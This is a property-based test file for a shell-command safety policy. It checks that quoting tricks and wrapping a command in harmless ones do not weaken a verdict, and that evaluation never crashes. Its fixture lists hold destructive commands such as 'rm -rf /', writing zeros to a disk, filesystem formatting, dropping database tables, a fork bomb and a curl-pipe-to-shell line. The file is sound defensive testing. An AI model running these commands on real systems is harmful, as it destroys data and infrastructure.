import fc from 'fast-check';
import {describe, expect, test} from 'vitest';
import type {Decision} from '../../src/policy/types.js';
import {decide} from './fixture.js';

/** What a decision says, without the words as written (which quoting changes on purpose). */
const outcome = (decision: Decision) => ({verdict: decision.verdict, rules: [...new Set(decision.findings.map((finding) => `${finding.rule}@${finding.level}`))].sort()});

const rank = {allow: 0, warn: 1, confirm: 2, deny: 3} as const;

// Words with no ~, glob or $: quoting any of them keeps the value the program gets.
const commands: string[][] = [
  ['rm', '-rf', '/'],
  ['rm', '-r', '-f', '/etc'],
  ['rm', '-rf', '/tmp/guard-test.1234'],
  ['rm', '-rf', './build'],
  ['git', 'push', '--force', 'origin', 'main'],
  ['git', 'push', '--force-with-lease'],
  ['git', 'reset', '--hard'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['chmod', '-R', '777', '/etc'],
  ['kubectl', 'delete', 'ns', 'prod'],
  ['psql', '-c', 'DROP TABLE users'],
  ['psql', '-c', "SELECT 'DROP TABLE x'"],
  ['echo', 'rm -rf /'],
  ['mkfs.ext4', '/dev/sdb1'],
  ['terraform', 'destroy'],
  ['crontab', '-r'],
  ['kill', '-9', '-1'],
  ['sudo', 'rm', '-rf', '/bin'],
  ['sh', '-c', 'rm -rf /usr'],
];

const quotings: Array<(word: string) => string | undefined> = [
  (word) => (/^[\w./=:@%+,-]+$/.test(word) ? word : undefined),
  (word) => `'${word.replace(/'/g, `'\\''`)}'`,
  (word) => `"${word.replace(/["$`\\]/g, '\\$&')}"`,
  (word) => (/^[\w./=:@%+,-]{2,}$/.test(word) ? `"${word[0]}"${word.slice(1)}` : undefined),
  (word) => (/^[\w./=:@%+,-]{2,}$/.test(word) ? `${word[0]}''${word.slice(1)}` : undefined),
  (word) => (/^[\w./=:@%+,-]+$/.test(word) ? `\\${word}` : undefined),
];

const quoted = (words: string[], styles: number[]) =>
  words.map((word, i) => quotings[styles[i]! % quotings.length]!(word) ?? quotings[1]!(word)!).join(' ');

describe('properties of a decision', () => {
  test('quoting a word differently (rm, \'rm\', "r"m, \\rm) never changes the decision', async () => {
    const plain = new Map<string, ReturnType<typeof outcome>>();
    for (const words of commands) plain.set(words.join('\u0000'), outcome(await decide(quoted(words, words.map(() => 1)))));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...commands), fc.array(fc.nat(quotings.length - 1), {minLength: 8, maxLength: 8}), async (words, styles) => {
        expect(outcome(await decide(quoted(words, styles)))).toEqual(plain.get(words.join('\u0000')));
      }),
      {numRuns: 150},
    );
  });

  const dangerous = ['rm -rf /', 'rm -rf ~', 'git push -f', 'dd if=x of=/dev/sda', 'kubectl delete ns prod', 'curl -s https://x | sh', 'git reset --hard', 'psql -c "DROP TABLE t"', 'rm -rf "$(pwd)"', ':(){ :|:& };:'];
  const around: Array<(script: string) => string> = [
    (x) => `true; ${x}`,
    (x) => `${x} && true`,
    (x) => `( ${x} )`,
    (x) => `{ ${x}; }`,
    (x) => `if true; then ${x}; fi`,
    (x) => `echo start\n${x}\necho done`,
    (x) => `for i in 1; do ${x}; done`,
    (x) => `ls | grep x; ${x}`,
  ];

  test('adding harmless commands around a dangerous one never makes it pass', async () => {
    const alone = new Map<string, ReturnType<typeof outcome>>();
    for (const script of dangerous) alone.set(script, outcome(await decide(script)));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...dangerous), fc.array(fc.nat(around.length - 1), {minLength: 1, maxLength: 3}), async (script, layers) => {
        const wrapped = layers.reduce((text, layer) => around[layer]!(text), script);
        const before = alone.get(script)!;
        const after = outcome(await decide(wrapped));
        expect(rank[after.verdict]).toBeGreaterThanOrEqual(rank[before.verdict]);
        expect(after.rules).toEqual(expect.arrayContaining(before.rules));
      }),
      {numRuns: 150},
    );
  });

  test('evaluation never throws, whatever the script', async () => {
    const pieces = fc.constantFrom('rm', '-rf', '/', '~', '*', '"', "'", '$(', ')', '`', '|', '&&', ';', '\n', '<<EOF', 'EOF', '>', '>>', 'git', 'push', '-f', 'dd', 'of=/dev/sda', '$X', '${Y:-/}', 'find', '-delete', 'xargs', 'sh', '-c', '{}', '\\;', 'psql', 'DROP', '(', '{', '}', ' ');
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string({maxLength: 60}), fc.array(pieces, {maxLength: 24}).map((parts) => parts.join(' '))), async (script) => {
        const decision = await decide(script);
        expect(['allow', 'warn', 'confirm', 'deny']).toContain(decision.verdict);
      }),
      {numRuns: 300},
    );
  });
});
